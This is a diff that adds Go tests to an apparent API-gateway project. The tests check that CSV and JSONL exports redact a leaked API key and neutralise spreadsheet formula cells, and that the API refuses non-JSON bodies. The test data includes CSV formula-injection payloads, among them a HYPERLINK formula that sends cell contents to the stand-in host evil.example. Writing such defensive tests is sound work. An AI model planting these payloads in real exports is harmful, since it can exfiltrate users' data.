@@ -2,11 +2,13 @@ package app
 
 import (
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"io"
 	"net/http"
 	"net/http/cookiejar"
 	"net/url"
+	"strconv"
 	"strings"
 	"testing"
 	"testing/fstest"
@@ -380,5 +382,82 @@ func TestStatusUpstreams(t *testing.T) {
 		if got := st.Upstreams[name]; got != want {
 			t.Errorf("Status().Upstreams[%s] = %+v, want %+v", name, got, want)
 		}
+	}
+}
+
+// TestExportIsSafe: a CSV cell that a spreadsheet would run as a formula
+// is neutralised, and no export shows a key.
+func TestExportIsSafe(t *testing.T) {
+	g := startTest(t)
+	const key = "sk-proj-exportLeak0123456789abcdefghijklmnopqrstuv"
+	now := time.Now()
+	evil := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1+2", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd"}
+	for i, m := range evil {
+		r := gateway.Record{ID: gateway.NewID(now.Add(time.Duration(i) * time.Millisecond)), Time: now, Token: m, Provider: "openai", Model: m,
+			Route: "openai.chat", Status: 401, Outcome: gateway.OutcomeError, Error: "upstream said: Incorrect API key provided: " + key}
+		if err := g.Service.DB.Settle(context.Background(), r); err != nil {
+			t.Fatal(err)
+		}
+	}
+	ctl := &http.Client{Transport: socketTransport(controlPath(g.dataDir))}
+	for _, format := range []string{"csv", "jsonl"} {
+		resp, err := ctl.Get("http://sluice/api/export?format=" + format)
+		if err != nil {
+			t.Fatal(err)
+		}
+		b, _ := io.ReadAll(resp.Body)
+		resp.Body.Close()
+		if strings.Contains(string(b), key[8:20]) {
+			t.Errorf("%s export shows the key:\n%s", format, b)
+		}
+		if format != "csv" {
+			continue
+		}
+		rows, err := csv.NewReader(strings.NewReader(string(b))).ReadAll()
+		if err != nil || len(rows) != len(evil)+1 {
+			t.Fatalf("csv export = %d rows, %v; want %d", len(rows), err, len(evil)+1)
+		}
+		for _, row := range rows[1:] {
+			for _, cell := range row {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("csv cell %q starts with a formula character", cell)
+				}
+			}
+			if m := row[4]; !strings.HasPrefix(m, "'") {
+				t.Errorf("csv model cell %q, want it neutralised with a leading '", m)
+			}
+		}
+	}
+}
+
+// TestAPITakesJSONOnly: an API call with a body other than JSON is refused
+// before anything is done.
+func TestAPITakesJSONOnly(t *testing.T) {
+	g := startTest(t)
+	ctl := &http.Client{Transport: socketTransport(controlPath(g.dataDir))}
+	for ct, want := range map[string]int{
+		"application/json":                  200,
+		"application/json; charset=utf-8":   200,
+		"text/plain":                        415,
+		"application/x-www-form-urlencoded": 415,
+		"multipart/form-data; boundary=x":   415,
+		"":                                  415,
+	} {
+		req, _ := http.NewRequest(http.MethodPost, "http://sluice/api/token.new", strings.NewReader(`{"name":"t`+strconv.Itoa(len(ct))+`"}`))
+		if ct != "" {
+			req.Header.Set("Content-Type", ct)
+		}
+		resp, err := ctl.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+		if resp.StatusCode != want {
+			t.Errorf("token.new as %q = %d, want %d", ct, resp.StatusCode, want)
+		}
+	}
+	ts, _ := g.Service.Tokens(context.Background())
+	if len(ts) != 2 {
+		t.Errorf("%d tokens made, want 2 (the JSON calls only)", len(ts))
 	}
 }
